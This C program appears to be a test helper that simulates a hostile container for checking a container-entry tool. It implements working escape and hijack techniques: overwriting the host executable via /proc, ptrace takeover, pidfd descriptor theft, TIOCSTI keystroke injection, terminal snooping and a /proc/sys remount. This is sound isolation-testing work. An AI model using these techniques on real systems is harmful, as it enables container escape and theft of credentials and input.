// attack is what a hostile container has for a program: each word is one thing
// to try on somebody who enters, or to look at. What a try has won is printed,
// or, by those that go on in the background, written to /tmp/loot.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/keyctl.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static void loot(const char *format, ...) {
	char line[1024];
	va_list args;
	va_start(args, format);
	int n = vsnprintf(line, sizeof line - 1, format, args);
	va_end(args);
	line[n++] = '\n';
	int fd = open("/tmp/loot", O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0666);
	if (fd < 0 || write(fd, line, n) < 0) _exit(9);
	close(fd);
}

static void nap(long ms) { nanosleep(&(struct timespec){ms / 1000, ms % 1000 * 1000000}, NULL); }

// ours reports whether a file is one that the container came with.
static int ours(struct stat *st) {
	static const char *names[] = {"/bin/busybox", "/bin/attack"};
	for (int i = 0; i < 2; i++) {
		struct stat own;
		if (stat(names[i], &own) == 0 && own.st_ino == st->st_ino && own.st_dev == st->st_dev) return 1;
	}
	return 0;
}

// overwrite waits until nobody executes the file that fd refers to any more,
// opens it anew for writing, and appends to it.
static int overwrite(int fd, int ms) {
	char path[64];
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	for (int i = 0; i < ms; i++, nap(1)) {
		int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (w < 0 && errno == ETXTBSY) continue;
		if (w < 0) break;
		int n = write(w, "PWND", 4);
		close(w);
		return n == 4;
	}
	return 0;
}

// seen_pid calls f with every process that is not the caller, for ever.
static void watch(void (*f)(int pid)) {
	for (;;) {
		DIR *proc = opendir("/proc");
		struct dirent *e;
		while ((e = readdir(proc))) {
			int pid = atoi(e->d_name);
			if (pid > 1 && pid != getpid()) f(pid);
		}
		closedir(proc);
	}
}

static int last;

static void try_exe(int pid) {
	char path[64], to[256];
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) return;
	struct stat st;
	if (fstat(fd, &st) == 0 && !ours(&st)) {
		int n = readlink(path, to, sizeof to - 1);
		to[n < 0 ? 0 : n] = 0;
		if (pid != last) loot("opened %s", to);
		if (pid != last && fork() == 0) {
			if (overwrite(fd, 3000)) loot("overwrote %s", to);
			_exit(0);
		}
		last = pid;
	}
	close(fd);
	while (waitpid(-1, NULL, WNOHANG) > 0) {}
}

static unsigned long long status_hex(int pid, const char *key) {
	char path[64], line[512];
	unsigned long long v = 0;
	snprintf(path, sizeof path, "/proc/%d/status", pid);
	FILE *f = fopen(path, "re");
	if (!f) return 0;
	while (fgets(line, sizeof line, f))
		if (!strncmp(line, key, strlen(key))) v = strtoull(line + strlen(key), NULL, 16);
	fclose(f);
	return v;
}

// try_ptrace takes over a process that has not executed a program of the
// container yet, and tells what it has that the container does not.
static void try_ptrace(int pid) {
	char path[300], to[4096];
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	struct stat st;
	if (pid == last || stat(path, &st) < 0 || ours(&st)) return;
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) return;
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0) return;
	int status;
	if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status)) return;
	if (stat(path, &st) == 0 && !ours(&st)) {
		last = pid;
		loot("attached");
		unsigned long long more = status_hex(pid, "CapPrm:") & ~status_hex(getpid(), "CapBnd:");
		if (more) loot("gained caps %llx", more);
		if (status_hex(getpid(), "Seccomp:") && !status_hex(pid, "Seccomp:")) loot("gained freedom from seccomp");
		snprintf(path, sizeof path, "/proc/%d/fd", pid);
		DIR *fds = opendir(path);
		struct dirent *e;
		while (fds && (e = readdir(fds))) {
			if (atoi(e->d_name) < 3) continue;
			snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, e->d_name);
			int n = readlink(path, to, 255);
			to[n < 0 ? 0 : n] = 0;
			// By a pipe it can be told lies, but not be had.
			if (!strncmp(to, "pipe:", 5)) continue;
			loot("gained fd %s %s", e->d_name, to);
		}
		if (fds) closedir(fds);
		snprintf(path, sizeof path, "/proc/%d/environ", pid);
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		int n = fd < 0 ? 0 : read(fd, to, sizeof to);
		if (n > 0 && memmem(to, n, "hunter2", 7)) loot("gained environment");
		if (fd >= 0) close(fd);
		snprintf(path, sizeof path, "/proc/%d/root", pid);
		struct stat root, own;
		if (stat(path, &root) == 0 && stat("/", &own) == 0 && (root.st_ino != own.st_ino || root.st_dev != own.st_dev)) loot("gained root directory");
	}
	ptrace(PTRACE_DETACH, pid, 0, 0);
}

// try_hold takes all that the keeper of a program has open, for good, and tells
// by its pipes what makes no sense.
static void try_hold(int pid) {
	char path[64], comm[32] = "";
	snprintf(path, sizeof path, "/proc/%d/comm", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) return;
	if (read(fd, comm, sizeof comm - 1) < 0) comm[0] = 0;
	close(fd);
	if (pid == last || strcmp(comm, "nstool-keeper\n")) return;
	int keeper = syscall(SYS_pidfd_open, pid, 0), held = 0;
	for (int i = 0; keeper >= 0 && i < 64; i++) {
		struct stat st;
		fd = syscall(SYS_pidfd_getfd, keeper, i, 0);
		if (fd < 0 || fstat(fd, &st) < 0 || !S_ISFIFO(st.st_mode)) continue;
		if (write(fd, "\1\0\0\0\1\0\0", 7) == 7) held++;
	}
	if (held) {
		last = pid;
		loot("holds %d pipes", held);
	}
}

// inject types a command line into a terminal.
static int inject(int fd) {
	for (const char *p = "PWND\n"; *p; p++)
		if (ioctl(fd, TIOCSTI, p) < 0) return 0;
	return 1;
}

// steal stays behind and reads what is typed into the terminal next.
static void steal(void) {
	char buf[256];
	if (fork() != 0) _exit(0);
	signal(SIGTTOU, SIG_IGN);
	signal(SIGTTIN, SIG_IGN);
	signal(SIGHUP, SIG_IGN);
	int tty = open("/dev/tty", O_RDWR | O_CLOEXEC);
	if (tty < 0) tty = 0;
	nap(300); // until the one who entered has gone
	for (int i = 0; i < 200; i++, nap(10)) {
		setpgid(0, 0);
		tcsetpgrp(tty, getpgrp());
		int n = read(tty, buf, sizeof buf - 1);
		if (n > 0) {
			buf[n] = 0;
			loot("read %s", buf);
		}
	}
	_exit(0);
}

static void facts(void) {
	char path[64], to[4096];
	for (int fd = 0; fd < 1024; fd++) {
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		int n = readlink(path, to, sizeof to - 1);
		if (n < 0) continue;
		to[n] = 0;
		printf("fd %d %s\n", fd, to);
		int in = openat(fd, "etc/passwd", O_RDONLY | O_CLOEXEC);
		struct stat st, own;
		if (in >= 0 && fstat(in, &st) == 0 && (stat("/etc/passwd", &own) < 0 || own.st_ino != st.st_ino || own.st_dev != st.st_dev)) printf("host file through fd %d\n", fd);
		if (in >= 0) close(in);
	}
	int n = syscall(SYS_getcwd, to, sizeof to);
	printf("cwd %s\n", n < 0 ? strerror(errno) : to);
	for (char **e = environ; *e; e++) printf("env %s\n", *e);
	gid_t groups[64];
	n = getgroups(64, groups);
	printf("groups");
	for (int i = 0; i < n; i++) printf(" %d", groups[i]);
	mode_t mask = umask(0);
	printf("\nids %d %d %d %d\n", getuid(), geteuid(), getgid(), getegid());
	printf("umask %03o\n", mask);
	printf("session %s\n", getsid(0) == getpid() ? "own" : "foreign");
	struct rlimit l;
	getrlimit(RLIMIT_NOFILE, &l);
	printf("nofile %ld %ld\n", (long)l.rlim_cur, (long)l.rlim_max);
	getrlimit(RLIMIT_CORE, &l);
	printf("core %ld\n", (long)l.rlim_cur);
	long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", "nstool-test", 0);
	if (key > 0 && (n = syscall(SYS_keyctl, KEYCTL_READ, key, to, sizeof to)) > 0) printf("key %.*s\n", n, to);
	static const char *files[] = {"/proc/self/status", "/proc/self/cgroup", "/proc/self/oom_score_adj"};
	for (int i = 0; i < 3; i++) {
		int fd = open(files[i], O_RDONLY | O_CLOEXEC);
		while ((n = read(fd, to, sizeof to)) > 0) fwrite(to, 1, n, stdout);
		close(fd);
	}
}

int main(int argc, char **argv) {
	const char *word = argc > 1 ? argv[1] : "";
	const char *arg = argc > 2 ? argv[2] : "";
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (!strcmp(word, "facts")) {
		facts();
	} else if (!strcmp(word, "exe")) {
		watch(try_exe);
	} else if (!strcmp(word, "ptrace")) {
		watch(try_ptrace);
	} else if (!strcmp(word, "hold")) {
		watch(try_hold);
	} else if (!strcmp(word, "overwrite")) {
		if (fork() == 0) {
			loot("holds the file");
			if (overwrite(atoi(arg), 3000)) loot("overwrote");
		}
	} else if (!strcmp(word, "tiocsti")) {
		int fd = *arg ? open(arg, O_RDWR | O_CLOEXEC) : 0;
		printf("%s\n", inject(fd) ? "injected" : strerror(errno));
	} else if (!strcmp(word, "steal")) {
		steal();
	} else if (!strcmp(word, "reopen")) {
		// arg is 0 or 1: write what was given to read, read what was given to write
		char path[64], buf[64];
		snprintf(path, sizeof path, "/proc/self/fd/%s", arg);
		if (*arg == '0') {
			int fd = open(path, O_RDWR | O_NONBLOCK | O_CLOEXEC);
			if (fd < 0 || write(fd, "PWND", 4) != 4) fprintf(stderr, "refused\n");
			fprintf(stderr, "tried\n");
		} else {
			int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
			int n = fd < 0 ? -1 : read(fd, buf, sizeof buf);
			fprintf(stderr, "tried %.*s\n", n < 0 ? 0 : n, buf);
		}
	} else if (!strcmp(word, "script")) {
		// write a line of script to the pipe from which a shell reads its own
		int fd = open("/proc/self/fd/0", O_RDWR | O_NONBLOCK | O_CLOEXEC);
		printf("%s\n", fd >= 0 && write(fd, "echo PW''ND\n", 12) == 12 ? "written" : "refused");
	} else if (!strcmp(word, "remount")) {
		// make the sysctls of the host writable
		if (mount("none", "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL) < 0) printf("remount: %s\n", strerror(errno));
		int fd = open("/proc/sys/kernel/core_pattern", O_WRONLY | O_CLOEXEC);
		printf("%s\n", fd < 0 ? strerror(errno) : "core_pattern is writable");
	} else if (!strcmp(word, "withkey")) {
		// on the host: run the rest with a key in the session keyring
		syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL);
		if (syscall(SYS_add_key, "user", "nstool-test", "hunter2", 7, KEY_SPEC_SESSION_KEYRING) < 0) return 1;
		execvp(argv[2], argv + 2);
		return 1;
	} else if (!strcmp(word, "filtered")) {
		// on the host: run the rest under a filter that answers arg to
		// close_range(2): an errno, or 0, which says that it is done
		struct sock_filter f[] = {
			BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
			BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, 436, 0, 1),
			BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | atoi(arg)),
			BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
		};
		struct sock_fprog prog = {sizeof f / sizeof *f, f};
		if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog) < 0) return 1;
		execvp(argv[3], argv + 3);
		return 1;
	} else if (!strcmp(word, "sloppy")) {
		// on the host: run the rest with what an operator's shell may have
		// left: descriptors, umask, ignored and blocked signals, groups
		if (dup2(open("/", O_RDONLY | O_DIRECTORY), 7) < 0) return 1;
		umask(0);
		signal(SIGUSR1, SIG_IGN);
		signal(SIGPIPE, SIG_IGN);
		sigset_t set;
		sigemptyset(&set);
		sigaddset(&set, SIGUSR2);
		sigprocmask(SIG_BLOCK, &set, NULL);
		gid_t groups[] = {4, 27};
		syscall(SYS_setgroups, 2, groups);
		execvp(argv[2], argv + 2);
		return 1;
	} else if (!strcmp(word, "closed")) {
		// on the host: run the rest without the descriptors in arg
		for (const char *p = arg; *p; p++) close(*p - '0');
		execvp(argv[3], argv + 3);
		return 1;
	} else if (!strcmp(word, "background")) {
		// leave somebody behind who keeps the descriptors
		printf("done\n");
		if (fork() == 0) nap(20000);
	} else if (!strcmp(word, "sleep")) {
		for (;;) pause();
	} else if (!strcmp(word, "open")) {
		printf("%s\n", open(arg, O_RDONLY | O_NONBLOCK | O_CLOEXEC) < 0 ? strerror(errno) : "opened");
	} else if (!strcmp(word, "signals")) {
		// count what arrives, until TERM
		sigset_t set;
		sigfillset(&set);
		sigprocmask(SIG_BLOCK, &set, NULL);
		printf("ready\n");
		for (int s; sigwait(&set, &s) == 0;) {
			printf("signal %d\n", s);
			if (s == SIGTERM) return 0;
		}
	} else {
		fprintf(stderr, "attack: no word %s\n", word);
		return 2;
	}
	return 0;
}
